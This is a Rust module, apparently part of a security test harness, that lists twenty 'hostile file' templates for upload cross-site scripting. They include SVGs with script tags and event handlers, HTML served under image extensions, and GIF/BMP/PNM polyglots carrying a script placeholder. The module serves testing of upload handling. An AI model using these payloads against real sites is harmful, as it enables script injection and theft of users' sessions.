//! The hostile files.

/// A file with a script.
#[derive(Clone, Copy)]
pub(super) struct File {
    /// Extension of the key.
    pub(super) extension: &'static str,
    /// The type that the uploader claims, and with which a browser runs the script.
    pub(super) content_type: &'static str,
    /// True if the file is an image that Chromium shows.
    pub(super) is_shown: bool,
    /// Content of the file. `SCRIPT` stands for the script, which has no double quotes.
    pub(super) template: &'static str,
}

/// An SVG with this content, and if they are given, with these attributes and this prolog.
macro_rules! svg {
    ($content:literal) => {
        svg!("", "", $content)
    };
    ($prolog:literal, $attributes:literal, $content:literal) => {
        File {
            extension: "svg",
            content_type: "image/svg+xml",
            is_shown: true,
            template: concat!(
                $prolog,
                r#"<svg xmlns="http://www.w3.org/2000/svg""#,
                r#" xmlns:h="http://www.w3.org/1999/xhtml""#,
                r#" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9""#,
                $attributes,
                ">",
                $content,
                "</svg>",
            ),
        }
    };
}

const fn html(extension: &'static str, template: &'static str) -> File {
    File { extension, content_type: "text/html", is_shown: false, template }
}

/// A file that begins like an image, and that a browser reads as HTML if its content type says so.
const fn polyglot(extension: &'static str, is_shown: bool, template: &'static str) -> File {
    File { extension, content_type: "text/html", is_shown, template }
}

pub(super) const FILES: [File; 20] = [
    svg!("<script>SCRIPT</script>"),
    svg!("", r#" onload="SCRIPT""#, ""),
    svg!(r#"<script href="data:text/javascript,SCRIPT"/>"#),
    svg!(r#"<script xlink:href="data:text/javascript,SCRIPT"/>"#),
    svg!("<h:script>SCRIPT</h:script>"),
    svg!(r#"<image href="x:" onerror="SCRIPT" width="1" height="1"/>"#),
    svg!(r#"<animate attributeName="x" dur="1s" onbegin="SCRIPT"/>"#),
    svg!(r#"<set attributeName="x" to="1" onbegin="SCRIPT"/>"#),
    svg!(
        r#"<foreignObject width="9" height="9"><h:img src="x:" onerror="SCRIPT"/></foreignObject>"#
    ),
    svg!(
        r#"<foreignObject width="9" height="9"><h:details open="" ontoggle="SCRIPT">x</h:details></foreignObject>"#
    ),
    svg!(
        r#"<foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script>SCRIPT&lt;/script>"/></foreignObject>"#
    ),
    svg!(
        r#"<!DOCTYPE svg [<!ENTITY it "<script xmlns='http://www.w3.org/2000/svg'>SCRIPT</script>">]>"#,
        "",
        "&it;"
    ),
    html("html", "<!DOCTYPE html><script>SCRIPT</script>"),
    html("png", r#"<html><img src="x:" onerror="SCRIPT"></html>"#),
    html("jpg", r#"<body onload="SCRIPT">"#),
    polyglot(
        "svg",
        true,
        r#"<!DOCTYPE html><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>SCRIPT</script></svg>"#,
    ),
    polyglot(
        "gif",
        true,
        "GIF89a\u{1}\0\u{1}\0\0\0\0,\0\0\0\0\u{1}\0\u{1}\0\0\u{2}\u{2}D\u{1}\0;<script>SCRIPT</script>",
    ),
    polyglot("bmp", false, "BM<script>SCRIPT</script>"),
    polyglot("pnm", false, "P2 1 1 1 1 <script>SCRIPT</script>"),
    html("svg", "<?xml version='1.0'?><html><script>SCRIPT</script></html>"),
];
